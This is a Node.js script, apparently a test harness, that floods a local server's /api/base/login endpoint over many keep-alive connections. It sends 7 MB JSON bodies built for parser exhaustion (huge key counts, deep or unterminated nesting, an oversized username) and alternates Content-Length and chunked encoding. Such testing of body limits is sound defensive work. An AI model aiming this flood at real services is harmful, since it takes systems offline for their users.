// `node flood.mjs <port> <connections>`: strangers who send bodies of 7 MB to the sign-in call, over and over, as fast
// as they are taken. Says `ready` when it begins, and when it is told to end `{"bodies":…,"bytes":…,"statuses":{…}}`.
import { connect } from 'node:net';

const [port, connections] = process.argv.slice(2).map(Number);
const said = { bodies: 0, bytes: 0, statuses: {} };

/** As the finding had them: many keys, many lists, endless nesting, one long text. */
const BODIES = [
  `{${Array.from({ length: 600_000 }, (_, key) => `"k${key}":1`).join(',')}}`,
  `{"a":[${'[],'.repeat(2_400_000)}1]}`,
  `{"a":${'['.repeat(7_200_000)}`,
  `{"username":"${'x'.repeat(7_200_000)}","password":"x"}`,
].map((text) => Buffer.from(text));
const HEAD =
  'POST /api/base/login HTTP/1.1\r\nhost: flood\r\ncontent-type: application/json\r\nconnection: keep-alive\r\n';

/** Every other body does not say how long it is. */
function requestOf(round) {
  const body = BODIES[round % BODIES.length];
  if (round % 2 === 0) return [Buffer.from(`${HEAD}content-length: ${body.length}\r\n\r\n`), body];
  const start = `${HEAD}transfer-encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n`;
  return [Buffer.from(start), body, Buffer.from('\r\n0\r\n\r\n')];
}

function attack(round) {
  const socket = connect(port, '127.0.0.1');
  let turn = round;
  let isSent = false;
  let isAnswered = false;
  const send = () => {
    isSent = false;
    isAnswered = false;
    const pieces = requestOf(turn);
    turn += 1;
    said.bodies += 1;
    for (const piece of pieces.slice(0, -1)) socket.write(piece);
    socket.write(pieces.at(-1), () => {
      isSent = true;
      if (isAnswered) send();
    });
  };
  socket.on('connect', send);
  socket.on('data', (bytes) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'))?.[1];
    if (status === undefined) return;
    said.statuses[status] = (said.statuses[status] ?? 0) + 1;
    isAnswered = true;
    if (isSent) send();
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    said.bytes += socket.bytesWritten;
    setTimeout(() => attack(turn), 5);
  });
  sockets.add(socket);
  socket.on('close', () => sockets.delete(socket));
}

const sockets = new Set();
for (let index = 0; index < connections; index += 1) attack(index);
process.on('SIGTERM', () => {
  for (const socket of sockets) said.bytes += socket.bytesWritten;
  process.stdout.write(JSON.stringify(said), () => process.exit(0));
});
process.stdout.write('ready\n');
